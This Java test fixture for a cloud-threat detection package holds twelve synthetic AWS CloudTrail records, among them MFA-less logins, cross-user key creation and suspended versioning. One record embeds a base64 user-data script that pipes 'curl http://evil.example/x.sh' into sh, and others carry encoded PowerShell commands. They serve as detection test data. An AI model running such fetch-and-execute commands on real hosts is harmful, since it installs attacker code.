package dev.cloudsift.detect;

import java.util.Base64;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Small CloudTrail records shaped like real ones (row ids follow their order, from 1). */
final class Records {
    private Records() {}

    static final String USER_DATA = Base64.getEncoder().encodeToString(
            "#!/bin/bash\ncurl http://evil.example/x.sh | sh".getBytes(StandardCharsets.UTF_8));
    static final String ENCODED_COMMAND = Base64.getEncoder().encodeToString(
            "cmd /c whoami".getBytes(StandardCharsets.UTF_16LE));

    static final List<String> ALL = List.of(
            // 1 console login without MFA
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDA1","arn":"arn:aws:iam::111122223333:user/alice","accountId":"111122223333","userName":"alice"},"eventTime":"2024-03-01T10:00:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.5","userAgent":"Mozilla/5.0","requestParameters":null,"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No","MobileVersion":"No"},"eventID":"e-1","readOnly":false,"eventType":"AwsConsoleSignIn","managementEvent":true,"recipientAccountId":"111122223333"}
            """,
            // 2 access key created for another user by S3 Browser
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/bob","accountId":"111122223333","accessKeyId":"AKIABOB","userName":"bob"},"eventTime":"2024-03-01T10:05:00Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","sourceIPAddress":"10.1.2.3","userAgent":"aws-cli/2.0 S3 Browser","requestParameters":{"userName":"mallory"},"responseElements":{"accessKey":{"accessKeyId":"AKIANEW","status":"Active","userName":"mallory"}},"eventID":"e-2","readOnly":false,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """,
            // 3 a user updating their own login profile
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/carol","accountId":"111122223333","userName":"carol"},"eventTime":"2024-03-01T10:10:00Z","eventSource":"iam.amazonaws.com","eventName":"UpdateLoginProfile","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"console.amazonaws.com","requestParameters":{"userName":"carol","passwordResetRequired":false},"responseElements":null,"eventID":"e-3","readOnly":false,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """,
            // 4 instance credentials used from IPv6, denied, multi-line message
            """
            {"eventVersion":"1.09","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc","accountId":"111122223333","accessKeyId":"ASIAINST","sessionContext":{"sessionIssuer":{"type":"Role","arn":"arn:aws:iam::111122223333:role/aws:ec2-instance","userName":"aws:ec2-instance"},"attributes":{"mfaAuthenticated":"false"}}},"eventTime":"2024-03-01T10:15:00Z","eventSource":"s3.amazonaws.com","eventName":"ListBuckets","awsRegion":"eu-west-1","sourceIPAddress":"2001:db8::1","userAgent":"aws-sdk-go/1.44","errorCode":"AccessDenied","errorMessage":"line1\\nUser is not authorized","requestParameters":{"Host":"s3.eu-west-1.amazonaws.com"},"eventID":"e-4","readOnly":true,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """,
            // 5 bucket versioning suspended by TruffleHog
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/bob","accountId":"111122223333","accessKeyId":"AKIABOB","userName":"bob"},"eventTime":"2024-03-01T10:20:00Z","eventSource":"s3.amazonaws.com","eventName":"PutBucketVersioning","awsRegion":"us-east-1","sourceIPAddress":"10.9.9.9","userAgent":"TruffleHog","requestParameters":{"bucketName":"logs","VersioningConfiguration":{"Status":"Suspended"}},"eventID":"e-5","readOnly":false,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """,
            // 6 instance launched with a hostile user data script and command line
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/dave","accountId":"111122223333","userName":"dave"},"eventTime":"2024-03-01T10:25:00Z","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.8","userAgent":"aws-cli/2.13","requestParameters":{"userData":"%s","commandLine":"powershell /enc AAAA","instancesSet":{"items":[{"imageId":"ami-1"}]}},"eventID":"e-6","readOnly":false,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """.formatted(USER_DATA),
            // 7 root console login failure from a private address
            """
            {"eventVersion":"1.08","userIdentity":{"type":"Root","arn":"arn:aws:iam::111122223333:root","accountId":"111122223333"},"eventTime":"2024-03-01T10:30:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"192.168.10.20","userAgent":"Mozilla/5.0","errorMessage":"Failed authentication","responseElements":{"ConsoleLogin":"Failure"},"additionalEventData":{"MFAUsed":"No"},"eventID":"e-7","readOnly":false,"eventType":"AwsConsoleSignIn","recipientAccountId":"111122223333"}
            """,
            // 8 SQL LIKE and Sigma wildcard characters in a value
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/eve","userName":"eve"},"eventTime":"2024-03-01T10:35:00Z","eventSource":"sts.amazonaws.com","eventName":"GetCallerIdentity","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.9","userAgent":"50%_off\\\\path*star 'quoted'","eventID":"e-8","readOnly":true,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """,
            // 9 an SSM command carrying a UTF-16LE base64 payload
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/dave","userName":"dave"},"eventTime":"2024-03-01T10:40:00Z","eventSource":"ssm.amazonaws.com","eventName":"SendCommand","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.8","userAgent":"aws-cli/2.13","requestParameters":{"documentName":"AWS-RunPowerShellScript","parameters":{"commands":"powershell -e %s"}},"eventID":"e-9","readOnly":false,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """.formatted(ENCODED_COMMAND),
            // 10 a long role session
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/frank","userName":"frank"},"eventTime":"2024-03-01T10:45:00Z","eventSource":"sts.amazonaws.com","eventName":"AssumeRole","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.10","userAgent":"aws-cli/2.13","requestParameters":{"roleArn":"arn:aws:iam::111122223333:role/admin","durationSeconds":43200,"maxResults":"50"},"eventID":"e-10","readOnly":true,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """,
            // 11 no user agent at all
            """
            {"eventVersion":"1.05","userIdentity":{"type":"AWSService","invokedBy":"cloudtrail.amazonaws.com"},"eventTime":"2024-03-01T10:50:00Z","eventSource":"kms.amazonaws.com","eventName":"GenerateDataKey","awsRegion":"us-east-1","sourceIPAddress":"cloudtrail.amazonaws.com","eventID":"e-11","readOnly":true,"eventType":"AwsServiceEvent","recipientAccountId":"111122223333"}
            """,
            // 12 an empty user agent
            """
            {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/gina","userName":"gina"},"eventTime":"2024-03-01T10:55:00Z","eventSource":"ec2.amazonaws.com","eventName":"DescribeInstances","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.11","userAgent":"","eventID":"e-12","readOnly":true,"eventType":"AwsApiCall","recipientAccountId":"111122223333"}
            """);
}
